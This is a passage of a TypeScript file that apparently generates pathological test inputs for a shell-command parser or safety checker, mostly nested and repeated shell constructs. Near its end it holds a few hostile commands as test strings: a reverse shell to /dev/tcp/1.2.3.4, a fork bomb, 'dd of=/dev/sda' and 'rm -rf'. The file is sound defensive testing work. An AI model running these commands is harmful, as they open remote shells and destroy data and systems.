  coproc: within("", "coproc a\n"),
  assignments: many((i) => `a${i}=b\n`),
  "same assignment": within("", "a=b\n"),
  "assignments before": within("", "a=b ", "c"),
  "assignments before many": within("", "a=b c\n"),
  "assignments of names": many((i) => `a${i + 1}=$a${i}\n`),
  doubling: after("a=aa\n", within("", "a=$a$a\n")),
  "doubling words": after("a='a a'\n", within("", 'a="$a $a"\n')),
  "doubling words, used": after(`a='a a'\n${'a="$a $a"\n'.repeat(11)}`, within("", "$a\n")),
  "doubling words, echoed": after(`a='a a'\n${'a="$a $a"\n'.repeat(11)}`, within("", "echo $a\n")),
  "doubling words, one command": after(`a='a a'\n${'a="$a $a"\n'.repeat(11)}`, within("echo ", "$a ")),
  "doubling words, eval": after(`a='a;'\n${'a="$a $a"\n'.repeat(11)}`, within("", "eval $a\n")),
  "doubling text, quoted": after(`a=aaaaaaaa\n${'a="$a$a"\n'.repeat(10)}`, within("echo ", '"$a" ')),
  "doubling text, one word": after(`a=aaaaaaaa\n${'a="$a$a"\n'.repeat(10)}`, within("echo ", '"$a"')),
  "doubling text, glued": after(`a=aaaaaaaa\n${'a="$a$a"\n'.repeat(10)}`, within("echo ", "$a")),
  "doubling text in sh -c": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}`, within("", 'sh -c "$a"\n')),
  "doubling text in here-strings": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}`, within("", 'sh<<<"$a"\n')),
  "doubling text in alias": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}alias x="$a"\n`, within("", "x\n")),
  "doubling text in python": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}`, within("", 'python -c "$a"\n')),
  "doubling text in awk": after(`a='a;'\n${'a="$a$a"\n'.repeat(10)}`, within("", 'awk "$a"\n')),
  "doubling text in perl": after(`a='a;'\n${'a="$a$a"\n'.repeat(11)}`, within("", 'perl -e "$a"\n')),
  "doubling text in printf": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}`, within("", 'printf "$a"|sh\n')),
  "doubling text in base64": after(
    `a='a;'\n${'a="$a$a"\n'.repeat(12)}`,
    within("", 'echo "$a"|base64|base64 -d|sh\n'),
  ),
  "doubling text in $(": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}`, within("", 'x=$(echo "$a")\n')),
  "doubling text in arithmetic": after(`a='a+'\n${'a="$a$a"\n'.repeat(12)}`, within("", "x=$((a))\n")),
  "doubling text in trap": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}`, within("", 'trap "$a" 0\n')),
  "doubling text in PS1": after(`a='$(a)'\n${'a="$a$a"\n'.repeat(10)}`, within("", 'PS1="$a"\n')),
  "doubling text in PROMPT_COMMAND": after(
    `a='a;'\n${'a="$a$a"\n'.repeat(12)}`,
    within("", 'PROMPT_COMMAND="$a"\n'),
  ),
  "doubling text in a here-document": after(
    `a='a;'\n${'a="$a$a"\n'.repeat(12)}`,
    within("", "sh<<E\n$a\nE\n"),
  ),
  "doubling text in env -S": after(`a='a '\n${'a="$a$a"\n'.repeat(12)}`, within("", 'env -S "$a"\n')),
  "doubling text in xargs": after(`a='a '\n${'a="$a$a"\n'.repeat(12)}`, within("", 'echo "$a"|xargs\n')),
  "doubling text in find": after(`a='-exec a ; '\n${'a="$a$a"\n'.repeat(9)}`, within("", "find $a\n")),
  "doubling text in ssh": after(`a='a;'\n${'a="$a$a"\n'.repeat(12)}`, within("", 'ssh h "$a"\n')),
  "doubling text with braces": after(`a='a '\n${'a="$a$a"\n'.repeat(12)}`, within("", "echo {a,b}$a\n")),
  "doubling glob": after(`a='*'\n${'a="$a$a"\n'.repeat(12)}`, within("", "a $a\n")),
  "positional doubling": (length) =>
    `set a b\n${"set $@ $@\n".repeat(12)}${within("", "echo $@\n")(length - 200)}`,
  export: many((i) => `export a${i}=b\n`),
  declare: many((i) => `declare -l a${i}=b\n`),
  "declare many": within("declare ", "a=b "),
  aliases: many((i) => `alias a${i}=b\n`),
  "aliases, chained": many((i) => `alias a${i}='a${i + 1} '\na${i}\n`),
  "alias, used": within("alias a='b c'\n", "a\n"),
  "aliases, in a circle": within("alias a=b b=c c=a\n", "a;b;c\n"),
  "alias with a long tail": after(
    "alias a=b\n",
    many(() => `a ${"x".repeat(200)}\n`),
  ),
  "alias with the rest as its tail": after("alias a=b\na ", within("", "a")),
  "aliases with many values": (length) =>
    `${many((i) => `alias a=${i}\n`)(200)}${within("", "a\n")(length - 250)}`,
  "aliases that call all": (length) =>
    `${Array.from({ length: 12 }, (_, i) => `alias a${i}='${Array.from({ length: 12 }, (__, j) => `a${j}`).join(";")}'\n`).join("")}${within("", "a0\n")(length - 800)}`,
  "aliases doubling": (length) =>
    `${Array.from({ length: 30 }, (_, i) => `alias a${i}='a${i + 1};a${i + 1}'\n`).join("")}${within("", "a0\n")(length - 800)}`,
  "aliases of subshells": halves(
    many((i) => `alias a${i}=b\n`),
    within("", "(a)\n"),
  ),
  "names in subshells": halves(
    many((i) => `a${i % 256}=b\n`),
    within("", "(a)\n"),
  ),
  "names in ways": halves(
    many((i) => `a${i % 256}=b\n`),
    within("a", "&&a"),
  ),
  "names in ifs": halves(
    many((i) => `a${i % 256}=b\n`),
    within("", "if a;then b;fi\n"),
  ),
  "names in loops": halves(
    many((i) => `a${i % 256}=b\n`),
    within("", "for a in b c;do d;done\n"),
  ),
  "names in nested loops": halves(
    many((i) => `a${i % 256}=b\n`),
    many(() => `${"while a;do ".repeat(20)}a${";done".repeat(20)}\n`),
  ),
  loosened: (length) => many(() => `${"while a;do ".repeat(70)}a${";done".repeat(70)}\n`)(length),
  "loosened assignments": (length) =>
    many(() => `${"while a;do ".repeat(70)}${"a=1;".repeat(500)}a${";done".repeat(70)}\n`)(length),
  forgotten: halves(
    many((i) => `a${i % 256}=b\n`),
    within("", "$a\n"),
  ),
  "odd in ways": halves(
    many((i) => `declare -l a${i % 256}=b\n`),
    within("a", "&&a"),
  ),
  braces: within("a ", "{a,b}"),
  "brace words": within("a ", "{a,b} "),
  "brace sequences": within("a ", "{1..500} "),
  "brace sequences with long": many(() => `a {1..500}${"x".repeat(1000)}\n`),
  "brace sequences in quotes": within("a ", '{1..9}"a"'),
  "nested braces": nested("{a,", "}", "b"),
  "nested braces within": many(() => `a ${"{a,".repeat(200)}b${"}".repeat(200)}\n`),
  "nested braces within 400": many(() => `a ${"{a,".repeat(400)}b${"}".repeat(400)}\n`),
  "braces that do not close": many(() => `a ${"{a,".repeat(1300)}\n`),
  "braces that do not count": many(() => `a ${"{a}".repeat(1300)}\n`),
  "braces that do not open": many(() => `a ${"a},".repeat(1300)}\n`),
  "empty braces": many(() => `a ${"{}".repeat(2000)}\n`),
  "comma braces": many(() => `a {${",".repeat(500)}}\n`),
  "comma braces long": many(() => `a {${",".repeat(500)}}${"x".repeat(3000)}\n`),
  "brace dots": many(() => `a ${"{1..".repeat(1000)}\n`),
  "here-documents": many((i) => `a<<E${i}\nb\nE${i}\n`),
  "here-documents on one line": (length) => `a ${many((i) => `<<E${i} `)(length - 10)}\n`,
  "here-documents on one line, closed": (length) => {
    const count = Math.floor(length / 14);
    return `a ${Array.from({ length: count }, (_, i) => `<<E${i} `).join("")}\n${Array.from({ length: count }, (_, i) => `E${i}\n`).join("")}`;
  },
  "here-document of much": within("a<<E\n", "b\n", "E\n"),
  "here-document of substitutions": within("a<<E\n", "$(b)\n", "E\n"),
  "here-document without an end": within("a<<E\n", "b\n"),
  "here-document into sh": within("sh<<E\n", "b\n", "E\n"),
  "here-document into bash into bash": (length) =>
    `bash<<'E'\nbash<<'F'\nbash<<'G'\n${within("", "b;")(length - 80)}\nG\nF\nE\n`,
  "here-strings": within("", "a<<<b\n"),
  "open here-documents": within("", "a<<E;"),
  redirects: within("a", ">b"),
  "redirects of all": within("", ">b "),
  "redirects of groups": nested("{ ", ";}>b", "a"),
  "redirects of many groups": within("", "{ a;}>b;"),
  "process substitutions": within("a ", "<(b) "),
  "process substitutions nested": nested("a <(", ")", "b"),
  "process substitutions nested within": many(() => `${"a <(".repeat(40)}b${")".repeat(40)}\n`),
  "process substitutions in pipelines": within("a", "|b <(c)"),
  substitutions: within("a ", "$(b) "),
  "substitutions of echo": within("a ", "$(echo b) "),
  "substitutions of long echo": many(() => `a $(echo ${"b".repeat(500)})\n`),
  "substitutions in names": within("", "$(echo a)\n"),
  "substitutions of unknown": within("", "$($a)\n"),
  unknown: within("", "$a\n"),
  "unknown with many": within("$a ", "$b "),
  positional: within("", "$@\n"),
  parameters: within("a ", "${a} "),
  "parameters with patterns": within("a ", "${a//b/c} "),
  "parameters glued": within("a ", "${a}"),
  variable: within("a ", "$a"),
  extglob: within("a ", "@(b)"),
  "nested extglob": nested("@(", ")", "a"),
  globs: within("a ", "*"),
  "glob brackets": within("a ", "["),
  "glob words": within("a ", "[*] "),
  eval: within("eval ", "eval ", "a"),
  evals: within("", "eval a\n"),
  "eval of much": packed("eval ", within("", "a;"), singleQuoted, "", 1),
  "eval nested": (length) => {
    let text = "a";
    for (;;) {
      const next = `eval ${singleQuoted(text)};eval ${singleQuoted(text)}`;
      if (next.length > length) return text;
      text = next;
    }
  },
  "sh -c nested": (length) => {
    let text = within("", "a;")(1000);
    for (;;) {
      const next = `sh -c ${singleQuoted(text)}`;
      if (next.length > length) return text;
      text = next;
    }
  },
  "sh -c of much, eight levels": (length) => {
    let text = within("", "a;")(Math.floor(length * 0.9));
    for (let level = 0; level < 6; level++) {
      const next = `bash -c ${singleQuoted(text)}`;
      if (next.length > length) return text;
      text = next;
    }
    return text;
  },
  "sh -c often": within("", "sh -c a\n"),
  "sh -c with words": within("sh -c 'echo $@' ", "a "),
  "echo into sh": within("", "echo a|sh\n"),
  "echo of much into sh": within("echo '", "a;", "'|sh"),
  "echo of much into sh, often": many(() => `echo '${"a;".repeat(100)}'|sh|sh|sh\n`),
  printf: many(() => `printf '%s' ${"a ".repeat(500)}|sh\n`),
  "printf formats": many(() => `printf '${"%s".repeat(500)}' a b|sh\n`),
  "printf much": many(() => `printf '%s\\n%s' ${"a ".repeat(5000)}|sh\n`),
  env: within("", "env ", "a"),
  "env with names": within("env ", "a=b ", "c"),
  "env -S": within("", "env -S ", "a"),
  wrappers: within("", "nice ", "a"),
  "wrappers within": many(() => `${"nice ".repeat(60)}a\n`),
  "wrappers with words": many(() => `${"nice ".repeat(60)}a ${"b ".repeat(2000)}\n`),
  sudo: within("", "sudo ", "a"),
  "sudo within": many(() => `${"sudo ".repeat(60)}a\n`),
  "sudo within with words": (length) => `${"sudo ".repeat(60)}a ${within("", "b ")(length - 400)}\n`,
  xargs: within("", "xargs ", "a"),
  "xargs within": many(() => `${"xargs ".repeat(60)}a\n`),
  "xargs with words": (length) => `${"xargs ".repeat(60)}a ${within("", "b ")(length - 400)}\n`,
  "find -exec": within("find ", "-exec a ; "),
  "find -exec nested": within("", "find -exec ", "a ;"),
  "find -exec sh": within("find ", "-exec sh -c a ; "),
  parallel: within("parallel ", "::: a "),
  "parallel nested": within("", "parallel ", "a"),
  ssh: within("", "ssh h ", "a"),
  "ssh within": many(() => `${"ssh h ".repeat(11)}a\n`),
  watch: within("", "watch ", "a"),
  trap: within("", "trap a 0\n"),
  time: within("", "time ", "a"),
  "! ": within("", "! ", "a"),
  "[[": within("[[ ", "a && ", "a ]]"),
  "[[ nested": nested("[[ ( ", " ) ]]", "a"),
  "[[ (": after("[[ ", nested("( ", " )", "a"), " ]]"),
  test: within("", "[ a ]\n"),
  arrays: within("a=(", "b ", ")"),
  "arrays nested": nested("a=(", ")", "b"),
  "arrays often": within("", "a=(b)\n"),
  "python -c": within("", "python -c a\n"),
  "python -c of much": packed("python3 -c ", within("", "a.b("), singleQuoted, "", 1),
  "python -c of broken": packed("python3 -c ", within("", "({["), singleQuoted, "", 1),
  "python -c doubled": after(`a='(['\n${'a="$a$a"\n'.repeat(12)}`, within("python3 ", '-c "$a$a$a$a" '), ""),
  "python -c doubled, often": after(
    `a='(['\n${'a="$a$a"\n'.repeat(12)}`,
    within("", 'python3 -c "$a$a$a$a"\n'),
    "",
  ),
  "node -e doubled, often": after(
    `a='(['\n${'a="$a$a"\n'.repeat(12)}`,
    within("", 'node -e "$a$a$a$a"\n'),
    "",
  ),
  "node -e doubled, much": after(
    `a='({['\n${'a="$a$a"\n'.repeat(11)}`,
    within("", 'node -e "$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a"\n'),
    "",
  ),
  "node -e of broken": packed("node -e ", within("", "({["), singleQuoted, "", 1),
  "perl -e": packed("perl -e ", within("", "system("), singleQuoted, "", 4.2),
  "perl -e often": many(() => `perl -e '${"system(".repeat(1100)}'\n`),
  "perl -e quotes often": many(() => `perl -e '${'"'.repeat(8000)}'\n`),
  "perl -e q often": many(() => `perl -e '${"q(".repeat(4000)}'\n`),
  "ruby -e often": many(() => `ruby -e '${"`".repeat(8000)}'\n`),
  "ruby -e % often": many(() => `ruby -e '${"%x(".repeat(2600)}'\n`),
  "php -r often": many(() => `php -r '${"system(".repeat(1100)}'\n`),
  "awk often": many(() => `awk '${"system(".repeat(580)}'\n`),
  "awk pipes": many(() => `awk '${'print|"a"\n'.repeat(400)}'\n`),
  "awk pipes without end": many(() => `awk '${"|a".repeat(2000)}'\n`),
  "awk slashes": many(() => `awk '${"/".repeat(4000)}'\n`),
  "awk brackets": many(() => `awk '${"/[".repeat(2000)}'\n`),
  "awk quotes": many(() => `awk '${'"'.repeat(4000)}'\n`),
  "awk )/ ": many(() => `awk '${")/|".repeat(1300)}'\n`),
  "awk ) spaces": many(() => `awk '|${") ".repeat(30)}${" ".repeat(3900)}'\n`),
  "sed often": many(() => `sed '${"s/a/b/e;".repeat(500)}'\n`),
  "sed open": many(() => `sed '${"s/".repeat(2000)}'\n`),
  "sed braces": many(() => `sed '${"{".repeat(4000)}'\n`),
  "sed e": many(() => `sed '${"e a\n".repeat(1000)}'\n`),
  mixed: (length) => {
    const python = `import os\nos.system("node -e 'require(\\"child_process\\").exec(\\"sh -c a\\")'")\n`;
    return many(() => `python3 -c ${singleQuoted(python)}\n`)(length);
  },
  "mixed doubling": (length) =>
    `a='import os\nos.system("${"a;".repeat(1000)}")\n'\na="$a$a$a"\n${within("", 'python3 -c "$a"\n')(length - 2200)}`,
  comments: within("", "#\n"),
  "comments behind": within("", "a #b\n"),
  "line continuations": within("a", " \\\n"),
  "blank lines": within("", "\n"),
  "reverse shells": within("", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n"),
  "almost curl | sh": within("", "curl a "),
  curls: within("", "curl a;"),
  "curl | tee": within("curl a", "|tee b"),
  "rm -rf": within("rm ", "-rf "),
  "rm of paths": within("rm ", "/etc/../home/ "),
  "long path": within("rm ", "../"),
  dd: within("dd ", "of=/dev/sda "),
  forks: within("", ":(){ :|:& };:\n"),
};

/** Vectors of words for a program that no shell reads. */
export const ARGV: Readonly<Record<string, (length: number) => string[]>> = {
  "many words": (length) => ["a", ...new Array(Math.floor(length / 2)).fill("b")],
  "many empty words": (length) => new Array(Math.floor(length / 2)).fill(""),
  ...Object.fromEntries(
    [
      "env",
      "nice",
      "sudo",
      "xargs",
      "time",
      "timeout",
      "ssh",
      "watch",
      "parallel",
      "find",
      "bash",
      "sh",
      "busybox",
      "python3",
      "node",
      "awk",
      "sed",
      "perl",
      "git",
      "docker",
      "make",
      "tar",
      "su",
      "script",
      "flock",
      "npx",
      "uv",
      "env -S",
      "a=b",
      "-c",
      "-exec",
      "-a",
      "--a=b",
      "*",
    ].flatMap((word) => [
      [`only ${word}`, (length: number) => new Array(Math.floor(length / (word.length + 1))).fill(word)],
      [`${word} of many`, (length: number) => [word, ...new Array(Math.floor((length - 20) / 2)).fill("a")]],
      [
        `${word} of options`,
        (length: number) => [word, ...new Array(Math.floor((length - 20) / 3)).fill("-a")],
      ],
    ]),
  ),
  "find -exec": (length) => ["find", ...new Array(Math.floor(length / 10)).fill(["-exec", "a", ";"]).flat()],
  "find -exec sh": (length) => [
    "find",
    ...new Array(Math.floor(length / 16)).fill(["-exec", "sh", "-c", "a", ";"]).flat(),
  ],
  "sudo with words": (length) => [
    ...new Array(60).fill("sudo"),
    ...new Array(Math.floor((length - 400) / 2)).fill("a"),
  ],
  "xargs with words": (length) => [
    ...new Array(60).fill("xargs"),
    ...new Array(Math.floor((length - 500) / 2)).fill("a"),
  ],
  "nice with words": (length) => [
    ...new Array(60).fill("nice"),
    ...new Array(Math.floor((length - 500) / 2)).fill("a"),
  ],
  "env with names": (length) => ["env", ...new Array(Math.floor(length / 4) - 4).fill("a=b"), "c"],
  "env with BASH_ENV": (length) => ["env", ...new Array(Math.floor(length / 9) - 4).fill("PAGER=a;"), "c"],
  "env with PROMPT_COMMAND": () => [
    "env",
    `PROMPT_COMMAND=${"a;".repeat(16000)}`,
    `PAGER=${"a;".repeat(16000)}`,
    `EDITOR=${"a;".repeat(16000)}`,
    "c",
  ],
  "ssh h": (length) => ["ssh", "h", ...new Array(Math.floor(length / 2) - 10).fill("a")],
  "ssh h ;": (length) => ["ssh", "h", ...new Array(Math.floor(length / 3) - 10).fill("a;")],
  "git -c": (length) => [
    "git",
    ...new Array(Math.floor(length / 20)).fill(["-c", "core.pager=a;b;c"]).flat(),
    "log",
  ],
  "perl many -e": (length) => [
    "perl",
    ...new Array(Math.floor(length / 12)).fill(["-e", "system(1)"]).flat(),
  ],
  "python3 -c many": (length) => [
    "python3",
    ...new Array(Math.floor(length / 12)).fill(["-c", "system(1)"]).flat(),
  ],
  "node many -e": (length) => [
    "node",
    ...new Array(Math.floor(length / 12)).fill(["-e", "system(1)"]).flat(),
  ],
  "sed many -e": (length) => ["sed", ...new Array(Math.floor(length / 12)).fill(["-e", "s/a/b/e"]).flat()],
};
